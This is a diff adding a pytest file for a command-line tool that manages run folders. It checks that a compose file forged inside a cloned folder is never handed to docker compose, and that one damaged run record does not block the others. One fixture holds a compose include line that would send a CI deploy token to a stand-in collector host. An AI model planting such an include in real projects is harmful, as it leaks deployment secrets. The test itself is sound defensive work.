@@ -1,0 +1,95 @@
+"""A state folder of plain files that came with a clone: it decides nothing."""
+
+import json
+import os
+import shutil
+from pathlib import Path
+
+import pytest
+
+from tests.support.fake_programs import write_program
+from tests.support.forks import Forked
+from tests.support.program import Program
+
+FETCHING = 'include: ["who@collector.example:${CI_DEPLOY_TOKEN}.git"]\nservices: {a: {image: x}}\n'
+
+TESTS = Path(__file__).parents[1]
+
+
+@pytest.fixture
+def cloned(tmp_path) -> Program:
+    """The program in a folder with a forged stack `first`; `docker` writes down its words."""
+    programs = tmp_path / "programs"
+    programs.mkdir()
+    write_program(programs / "docker", f'echo "$@" >> {tmp_path}/words; pwd >> {tmp_path}/words')
+    folder = tmp_path / "clone"
+    forge(folder, "first", runtime="compose")
+    (folder / ".qca/first/compose.yaml").write_text(FETCHING)
+    (folder / ".qca/first/.env").write_text("COMPOSE_FILE=compose.yaml\nCOMPOSE_BAKE=1\n")
+    environment = {"PATH": f"{programs}:{os.environ['PATH']}", "DOCKER_HOST": "unix:///absent"}
+    return Forked(folder, {**environment, "CI_DEPLOY_TOKEN": "planted-t0ken"})
+
+
+def forge(folder: Path, run: str, **values: object) -> Path:
+    file = folder / ".qca" / run / "launch.json"
+    file.parent.mkdir(parents=True)
+    launch = {"runtime": "local", "project": "qca", "run": run, "runs": "runs", **values}
+    file.write_text(json.dumps(launch))
+    return file
+
+
+@pytest.mark.parametrize("words", ["logs", "status", "attach"])
+def test_a_forged_compose_file_is_not_given_to_compose(cloned, words):
+    cloned(words, check=None)
+    asked = cloned.folder.parent / "words"
+    given = asked.read_text() if asked.exists() else ""
+    assert "compose.yaml" not in given
+    assert str(cloned.folder / ".qca") not in given
+    assert ("logs" in given) == (words == "logs")
+
+
+def test_a_run_is_looked_for_in_the_folder_s_own_runs(qca):
+    shutil.copytree(TESTS / "data" / "run-0.1.0", qca.folder / "elsewhere")
+    forge(qca.folder, "stopped", runs=str(qca.folder / "elsewhere"))
+    assert json.loads(qca("status", "--format", "json").stdout)["last_episode"] is None
+
+
+@pytest.fixture
+def damaged(qca) -> Program:
+    """The program in a folder where the record of run b, of three, is damaged."""
+    for run in ("a", "b", "c"):
+        forge(qca.folder, run)
+    (qca.folder / ".qca/b/launch.json").write_text('{"runtime": ')
+    return qca
+
+
+def test_one_damaged_record_leaves_the_others_to_be_asked_for(damaged):
+    assert json.loads(damaged("status", "a", "--format", "json").stdout)["run"] == "a"
+    assert "b/launch.json cannot be read" in damaged("status", "b", check=1).stderr
+    assert "a, b, c" in damaged("status", check=2).stderr
+
+
+def test_one_damaged_record_leaves_the_others_to_be_taken_down(damaged):
+    done = damaged("down", "--all", check=1)
+    assert "b/launch.json cannot be read" in done.stderr
+    assert "c does not run. It is kept." in done.stderr
+    assert [path.name for path in (damaged.folder / ".qca").iterdir()] == ["b"]
+
+
+def test_one_damaged_record_is_reported_beside_the_runs(damaged):
+    shutil.copytree(TESTS / "data" / "run-0.1.0", damaged.folder / "runs")
+    done = damaged("runs", "--format", "json", check=1)
+    assert len(json.loads(done.stdout)["runs"]) == 3
+    assert "b/launch.json cannot be read" in done.stderr
+
+
+def test_what_a_damaged_run_takes_is_reported_as_unknown(damaged):
+    done = damaged("plan", "--facts", TESTS / "hosts/cpu-engine.json")
+    assert "What the run b takes" not in done.stderr  # it would be of another machine
+    done = damaged("plan")
+    assert "What the run b takes of this machine is unknown" in done.stderr
+
+
+def test_another_run_is_refused_by_its_own_damaged_record_alone(damaged):
+    done = damaged("up", "--runtime=local", "--run=b", "--device=cpu", "--profile=cpu", check=1)
+    assert "b/launch.json cannot be read" in done.stderr
